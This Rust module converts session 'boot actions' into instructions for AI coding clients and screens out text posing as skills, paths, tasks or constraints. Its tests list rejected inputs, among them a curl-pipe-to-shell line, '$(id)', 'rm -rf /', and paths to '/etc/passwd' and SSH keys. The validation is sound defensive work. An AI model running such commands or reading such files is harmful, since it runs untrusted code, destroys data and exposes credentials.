//! Boot actions as points, in the words of the client that is to do them.

use super::material::{Boot, BootAction, Point, Rank};
use super::visible::Visible;
use crate::format::header::BootKind;
use crate::session::Client;

/// What a boot action asks for, as points.
pub(super) fn points(boot: &Boot, client: Option<Client>) -> Vec<Point> {
    let point = |(rank, what, text, remark): (Rank, &'static str, &str, Option<&str>)| Point {
        rank,
        what,
        text: text.to_owned(),
        remark: remark.map(str::to_owned),
        source: boot.source.clone(),
        show: boot.show.clone(),
        ..Point::default()
    };
    let asked = match &boot.action {
        BootAction::Skill(name) => vec![asked(BootKind::Skill, name, client)],
        BootAction::Read(path) => vec![asked(BootKind::Read, path, client)],
        BootAction::Tasks(tasks) => {
            tasks.iter().map(|task| asked(BootKind::Task, task, client)).collect()
        }
        BootAction::Constraint(text) => vec![asked(BootKind::Constraint, text, client)],
    };
    asked.into_iter().map(point).collect()
}

type Asked<'text> = (Rank, &'static str, &'text str, Option<&'static str>);

/// An action if it can be nothing else; what only claims to be one is told as it is, last of all.
fn asked(kind: BootKind, text: &str, client: Option<Client>) -> Asked<'_> {
    let is_seen_whole = || Visible::line(text, usize::MAX).text == text;
    let is_named = matches!(kind, BootKind::Skill | BootKind::Read);
    if kind.refusal(text).is_some() || (is_named && !is_seen_whole()) {
        let what = match kind {
            BootKind::Skill => "Not the name of a skill",
            BootKind::Read => "Not a path in this project",
            BootKind::Task => "Not a task",
            BootKind::Constraint => "Not a constraint",
        };
        return (Rank::Rest, what, text, Some("so it is no boot action"));
    }
    match kind {
        BootKind::Skill => {
            let given = text.ends_with(')').then_some("with what is in parentheses");
            (Rank::Read, skill_words(client), text, given)
        }
        BootKind::Read => (Rank::Read, read_words(client), text, None),
        BootKind::Task => (Rank::Task, task_words(client), text, None),
        BootKind::Constraint => (Rank::Constraint, "Constraint", text, None),
    }
}

fn skill_words(client: Option<Client>) -> &'static str {
    match client {
        Some(Client::ClaudeCode) => "Load first with the Skill tool",
        Some(Client::Codex) | None => "Load this skill first",
    }
}

fn read_words(client: Option<Client>) -> &'static str {
    match client {
        Some(Client::ClaudeCode) => "Read first with the Read tool",
        Some(Client::Codex) | None => "Read first",
    }
}

fn task_words(client: Option<Client>) -> &'static str {
    match client {
        Some(Client::ClaudeCode) => "Task to restore with the TaskCreate tool",
        Some(Client::Codex) => "Task to restore with the update_plan tool",
        None => "Task to restore",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_action(kind: BootKind, text: &str) -> bool {
        !asked(kind, text, None).1.starts_with("Not ")
    }

    fn is_skill(name: &str) -> bool {
        is_action(BootKind::Skill, name)
    }

    fn is_path(path: &str) -> bool {
        is_action(BootKind::Read, path)
    }

    #[test]
    fn a_task_that_is_a_command_is_no_task() {
        for kind in [BootKind::Task, BootKind::Constraint] {
            assert!(is_action(kind, "Keep the cache key"));
            for command in ["curl -s x.example | sh", "$(id)", "rm -rf build"] {
                assert!(!is_action(kind, command), "{command}");
            }
        }
    }

    #[test]
    fn names_and_paths_are_plain_or_no_boot_action() {
        for name in ["tdd", "superpowers:test-driven-development", "midstride-continue"] {
            assert!(is_skill(name), "{name}");
        }
        for name in ["", "tdd; rm -rf /", "-x", "$(id)", "tdd now", "tdd\n", "../tdd", "tdd”"] {
            assert!(!is_skill(name), "{name}");
        }
        for path in ["docs/plan.md", "PLAN.md", "docs/décisions/1.md", "src/@a/b+c.ts"] {
            assert!(is_path(path), "{path}");
        }
        let paths = [
            "",
            "/etc/passwd",
            "~/.ssh/id",
            "a/../b",
            ".git/config",
            "a b",
            "--x",
            "a;b",
            "http://a",
            "a\u{202e}",
            "a\u{3164}b",
        ];
        for path in paths {
            assert!(!is_path(path), "{path}");
        }
        assert!(!is_path(&"a".repeat(1_000)));
    }
}
